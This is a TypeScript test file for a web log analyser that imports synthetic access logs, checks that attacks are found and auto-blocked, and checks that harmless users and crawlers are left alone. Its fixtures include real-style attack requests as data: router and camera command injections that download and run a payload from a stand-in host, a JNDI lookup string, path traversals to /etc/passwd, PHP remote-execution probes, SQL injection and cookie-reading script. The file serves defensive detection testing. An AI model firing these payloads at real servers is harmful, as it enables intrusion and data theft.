/**
 * Access logs of attackers, people and programs, imported, judged and answered like a server with
 * `AUTO_BLOCK=on`: who is found, who is blocked, and who is not.
 *
 * @module
 */
import { assert, assertEquals } from "@std/assert";
import { CrawlerRanges } from "../../lib/bots/crawler_ranges.ts";
import { crawlerVerifier } from "../../lib/bots/verify.ts";
import { detectHours } from "../../lib/detection/job.ts";
import { jobOptions } from "../../lib/detection/job_options.ts";
import type { Severity } from "../../lib/detection/types.ts";
import { LogImport } from "../../lib/import/import_logs.ts";
import { createLogClient } from "../../lib/import/log_client.ts";
import { allEntries } from "../../lib/lists/access_read.ts";
import { BulkWriter } from "../../lib/log/bulk_writer.ts";
import { contains, parseCidr } from "../../lib/net/cidr.ts";
import { parseIp } from "../../lib/net/ip.ts";
import { parseConfig } from "../../lib/settings/config.ts";

const HOUR = 3_600_000;
const START = Date.UTC(2026, 2, 4, 10);
const BROWSER =
  "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const SITE = "https://www.example.org";

/** A request as in a line of the combined format. */
interface Line {
  /** Milliseconds into the hour. */
  at: number;
  request: string;
  status?: number;
  agent?: string;
  referrer?: string;
  user?: string;
  ip?: string;
}

interface Story {
  lines: Line[];
  /** The address of lines without their own. */
  ip: string;
}

function lineOf({ ip }: Story, line: Line): string {
  const { at, request, status = 200, agent = BROWSER } = line;
  const { referrer = "-", user = "-" } = line;
  const time = new Date(START + at).toISOString().slice(11, 19);
  return `${line.ip ?? ip} - ${user} [04/Mar/2026:${time} +0000] ` +
    `"${request}" ${status} 512 "${referrer}" "${agent}"`;
}

/** A number of requests at a fixed interval in milliseconds. */
function series(
  count: number,
  everyMs: number,
  request: (n: number) => string,
  fields: Partial<Line> = {},
): Line[] {
  return Array.from({ length: count }, (_, n) => ({
    ...fields,
    at: (fields.at ?? 0) + n * everyMs,
    request: `${request(n)} HTTP/1.1`,
  }));
}

const get = (target: string, fields: Partial<Line> = {}): Line => ({
  at: 1_000,
  request: `GET ${target} HTTP/1.1`,
  status: 404,
  ...fields,
});

/** One request each, none of which can be an accident. */
const SINGLE: Record<string, Line> = {
  "a router's form": get("/boaform/admin/formLogin?username=ec8&psw=ec8"),
  "a router's shell": get(
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/m+-O+/tmp/n&curpath=/&currentsetting.htm=1",
  ),
  "a camera's shell": get(
    "/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/jaws;sh+jaws",
  ),
  "PHPUnit's program": get(
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  ),
  "a framework's function by name": get(
    "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
  ),
  "settings with passwords": get("/.env"),
  "a repository": get("/.git/config"),
  "a tunnel": {
    at: 0,
    request: "CONNECT mail.example.net:25 HTTP/1.1",
    status: 400,
  },
  "somebody else's page": {
    at: 0,
    request: "GET http://azenv.example.net/ HTTP/1.1",
    status: 404,
  },
  "a scanner that says so": get("/", {
    status: 200,
    agent: "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
  }),
  "a lookup in the agent": get("/", {
    status: 200,
    agent: "${jndi:ldap://192.0.2.1:1389/a}",
  }),
  "a file out of the site": get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", {
    status: 400,
  }),
  "a firewall's file": get(
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
  ),
  "a VPN's file": get(
    "/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/html5acc/guacamole/",
  ),
  "a database's question": get("/item?id=1'+UNION+SELECT+1,version()--+-", {
    status: 200,
  }),
  "a script in a search": get(
    "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    { status: 200 },
  ),
  "a function by a page's parameter": get("/doku.php?id=phpinfo()"),
  "the same, answered alike as everything": get("/?id=phpinfo()", {
    status: 200,
  }),
  "a copy of the database": get("/backup.sql"),
  "an intruder's shell": get("/wso.php"),
};

const SQLMAP = [
  "id=1%20AND%204%3D4",
  "id=1%27%20AND%20SLEEP%285%29--%20x",
  "id=-1%20UNION%20ALL%20SELECT%20NULL%2CNULL--",
  "id=1%29%20ORDER%20BY%201--%20-",
];

/** The attacks, their minimum severity, and whether they lead to an automatic block. */
const ATTACKS: Record<string, [lines: Line[], least: Severity, ends: boolean]> =
  {
    "82 requests of sqlmap under a browser's name": [
      series(82, 300, (n) => `GET /item?${SQLMAP[n % SQLMAP.length]}`),
      "critical",
      true,
    ],
    "60 wrong passwords at /wp-login.php": [
      series(60, 2_000, () => "POST /wp-login.php"),
      "critical",
      true,
    ],
    "60 wrong passwords at /accounts/login/, which answers 200": [
      series(60, 2_000, () => "POST /accounts/login/"),
      "critical",
      true,
    ],
    "60 wrong passwords at /users/sign_in": [
      series(60, 2_000, () => "POST /users/sign_in", { status: 422 }),
      "critical",
      true,
    ],
    "60 wrong passwords at a path of LOGIN_PATHS": [
      series(60, 2_000, () => "POST /members/enter.cgi"),
      "critical",
      true,
    ],
    "60 wrong passwords by HTTP authentication": [
      series(60, 1_000, () => "GET /private/", { status: 401 }),
      "warning",
      false,
    ],
    "300 addresses of one /64, 90 requests each": [
      Array.from(
        { length: 300 },
        (_, host) =>
          series(90, 39_000, (n) => `GET /item/${n}`, {
            ip: `2001:db8:7:1::${(host + 1).toString(16)}`,
          }),
      ).flat(),
      "warning",
      false,
    ],
    "200 addresses of a /24, 90 requests each": [
      Array.from(
        { length: 200 },
        (_, host) =>
          series(90, 39_000, (n) => `GET /item/${n}`, {
            ip: `198.51.100.${host + 1}`,
          }),
      ).flat(),
      "warning",
      false,
    ],
    "ten seconds of flood": [
      series(4_000, 2, () => "GET /", { at: 1_800_000 }),
      "critical",
      true,
    ],
  };

const DAV = "rclone/v1.60.1";

/** Harmless people and programs. */
const INNOCENT: Record<string, Line[]> = {
  "pip with a second index, 85 of whose packages it has not": series(
    85,
    300,
    (n) => `GET /simple/package-${"abcdefghij"[n % 10]}${n}/`,
    { status: 404, agent: 'pip/23.0.1 {\\"ci\\":null}' },
  ),
  "rclone copying 100 photos": [
    { ...series(1, 0, () => "PROPFIND /dav/")[0]!, status: 401, agent: DAV },
    ...series(100, 400, (n) => `PROPFIND /dav/IMG_${2_000 + n}.jpg`, {
      ...{ status: 404, agent: DAV, user: "ann", at: 1_000 },
    }),
    ...series(100, 400, (n) => `PUT /dav/IMG_${2_000 + n}.jpg`, {
      ...{ status: 201, agent: DAV, user: "ann", at: 1_200 },
    }),
  ],
  "rclone synchronising a copy of /etc": [
    ...["passwd", "shadow", "hosts", "ssh/sshd_config", "hosts.allow"],
  ].flatMap((name, n) =>
    series(1, 0, () => `PUT /dav/backup/etc/${name}`, {
      ...{ at: n * 1_000, status: 201, agent: DAV, user: "ann" },
    })
  ),
  "a wiki's admin on pages with telling names": [
    get("/wiki/Phpinfo()", { status: 200, user: "ann" }),
    get("/wiki/Linux:/etc/passwd", { status: 200, at: 9_000, user: "ann" }),
    get("/doku.php?id=Phpinfo()", {
      ...{ status: 200, at: 19_000, referrer: `${SITE}/doku.php?id=start` },
    }),
  ],
  "a reader of a wiki who types the names of its pages": [
    get("/doku.php?id=start", { status: 200 }),
    get("/doku.php?id=Phpinfo()", { status: 200, at: 9_000 }),
    get("/doku.php?id=php&do=index", { status: 200, at: 15_000 }),
    get("/doku.php?id=.htaccess", { status: 200, at: 19_000 }),
    get("/index.php?title=Document.cookie", { status: 200, at: 29_000 }),
    get("/index.php?title=JavaScript", { status: 200, at: 39_000 }),
  ],
  "wget mirroring a site with 69 dead links of its own": [
    ...series(60, 900, (n) => `GET /docs/page-${"abcdef"[n % 6]}${n}.html`, {
      agent: "Wget/1.21.3",
    }),
    ...series(69, 900, (n) => `GET /docs/old/${"ghijkl"[n % 6]}-${n}.html`, {
      ...{ status: 404, agent: "Wget/1.21.3" },
      referrer: `${SITE}/docs/index.html`,
    }),
  ],
  "an hour of a busy wiki": series(320, 11_000, (n) => `GET /wiki/Page_${n}`, {
    referrer: `${SITE}/wiki/Main_Page`,
  }),
  "an hour of a notebook": series(400, 9_000, () => "GET /api/kernels", {
    user: "ann",
  }),
  "an hour of a calendar": series(
    180,
    20_000,
    () => "REPORT /caldav/ann/work/",
    { status: 207, agent: "DAVx5/4.3", user: "ann" },
  ),
  "an hour of a mounted folder": series(
    200,
    17_000,
    (n) => `PROPFIND /dav/folder-${n % 20}/`,
    { status: 207, agent: "davfs2/1.6.1 neon/0.32.5", user: "ann" },
  ),
  "85 missing previews in a browser": [
    ...series(30, 900, (n) => `GET /gallery/${n}`),
    ...series(
      85,
      200,
      (n) => `GET /previews/${"abcdefgh"[n % 8]}${n * 7919}-small.webp`,
      { status: 404, referrer: `${SITE}/gallery` },
    ),
  ],
  "a feed reader that resolves six links one step too far": series(
    6,
    1_000,
    (n) => `GET /feed/../../img/photo-${n}.png`,
    {
      status: 404,
      agent: "NetNewsWire (RSS Reader; https://netnewswire.com/)",
    },
  ),
  "an office behind one address": Array.from({ length: 12 }, (_, person) => [
    get("/login", {
      ...{ status: 200, at: person * 60_000, referrer: `${SITE}/` },
    }),
    ...series(1, 0, () => "POST /login", {
      ...{ status: person % 4 === 0 ? 401 : 303, at: person * 60_000 + 9_000 },
    }),
    ...series(1, 0, () => "POST /login", {
      ...{ status: 303, at: person * 60_000 + 19_000 },
    }),
    ...series(7, 1_000, (n) => `GET /work/${n}`, {
      ...{ at: person * 60_000 + 20_000, user: `person${person}` },
    }),
  ]).flat(),
};

/** An address that the crawler's operator publishes as its own. */
const GOOGLE = "66.249.66.1";
const GOOGLEBOT =
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
const CRAWLER = series(
  81,
  20_000,
  (n) => `GET /archive/${"abcdefghi"[n % 9]}/story-${n}.html`,
  { status: 404, agent: GOOGLEBOT },
);

/** Imports all of them, and runs a server's jobs; returns the findings and blocks. */
async function judged(stories: Iterable<Story>) {
  using kv = await Deno.openKv(":memory:");
  const now = () => START + HOUR + 60_000;
  const retentionMs = 30 * 24 * HOUR;
  const lines = [...stories].flatMap((story) =>
    story.lines.map((line) => [line.at, lineOf(story, line)] as const)
  ).sort(([a], [b]) => a - b).map(([, line]) => `${line}\n`);
  const file = await Deno.makeTempFile({ prefix: "portcullis_" });
  try {
    await Deno.writeTextFile(file, lines.join(""));
    const logs = new LogImport({
      ...{ clientOf: createLogClient(), now, seen: null, retentionMs },
      writer: new BulkWriter({ kv, now, retentionMs }),
    });
    const report = await logs.file(file);
    const { counts } = report.reader;
    assertEquals([counts.requests, counts.unparsable], [lines.length, 0]);
    const ranges = new CrawlerRanges({ now });
    await ranges.load(kv);
    const silent = () => Promise.reject(new Error("no network"));
    const { findings } = await detectHours(
      await jobOptions({
        ...{ kv, now },
        config: parseConfig({ AUTO_BLOCK: "on", LOGIN_PATHS }),
        crawlers: crawlerVerifier({
          ...{ now, ranges },
          resolver: { reverse: silent, forward: silent },
        }),
      }),
      [...logs.hours],
    );
    const blocked = await Array.fromAsync(allEntries(kv, "blocked", now));
    return {
      findings: findings.filter(({ severity }) => severity !== "info"),
      blocked: new Set(blocked.map(({ ip_address }) => ip_address)),
    };
  } finally {
    await Deno.remove(file);
  }
}

const LOGIN_PATHS = "/login,/api/login,/members/*";

Deno.test("An imported log: each attack is found, as seriously as it is, and blocked where a machine may; nobody else is", async (t) => {
  const singles = Object.entries(SINGLE).map(([name, line], n) => ({
    name,
    lines: [line],
    ip: `203.0.113.${n + 1}`,
  }));
  const attacks = Object.entries(ATTACKS).map((
    [name, [lines, ...wanted]],
    n,
  ) => ({ name, lines, wanted, ip: `192.0.2.${n + 1}` }));
  const innocents = Object.entries({ ...INNOCENT }).map(([name, lines], n) => ({
    name,
    lines,
    ip: `203.0.${n + 120}.9`,
  })).concat({ name: "Google's crawler", lines: CRAWLER, ip: GOOGLE });
  const { findings, blocked } = await judged([
    ...singles,
    ...attacks,
    ...innocents,
  ]);
  const about = (ips: ReadonlySet<string>) =>
    findings.filter(({ ip_address }) => {
      // A finding about a network covers its addresses.
      if (!ip_address.includes("/")) return ips.has(ip_address);
      const range = parseCidr(ip_address);
      return ips.values().some((ip) => contains(range, parseIp(ip)!));
    });
  const addressesOf = ({ ip, lines }: Story) =>
    new Set(lines.map((line) => line.ip ?? ip));
  for (const single of singles) {
    await t.step(`found by one request: ${single.name}`, () => {
      assert(about(addressesOf(single)).length > 0);
    });
  }
  for (const attack of attacks) {
    const [least, ends] = attack.wanted;
    await t.step(`found: ${attack.name}`, () => {
      const seen = about(addressesOf(attack)).map(({ severity }) => severity);
      assert(seen.includes("critical") || seen.includes(least), `${seen}`);
      assertEquals(blocked.has(attack.ip), ends);
    });
  }
  for (const innocent of innocents) {
    await t.step(`let be: ${innocent.name}`, () => {
      const ips = addressesOf(innocent);
      assertEquals(
        about(ips).map(({ rule, severity }) => [rule, severity]),
        [],
      );
      assert(!blocked.has(innocent.ip));
    });
  }
  await t.step("nobody else is blocked", () => {
    const known = new Set([...singles, ...attacks].map(({ ip }) => ip));
    assertEquals([...blocked].filter((ip) => !known.has(ip)), []);
  });
});
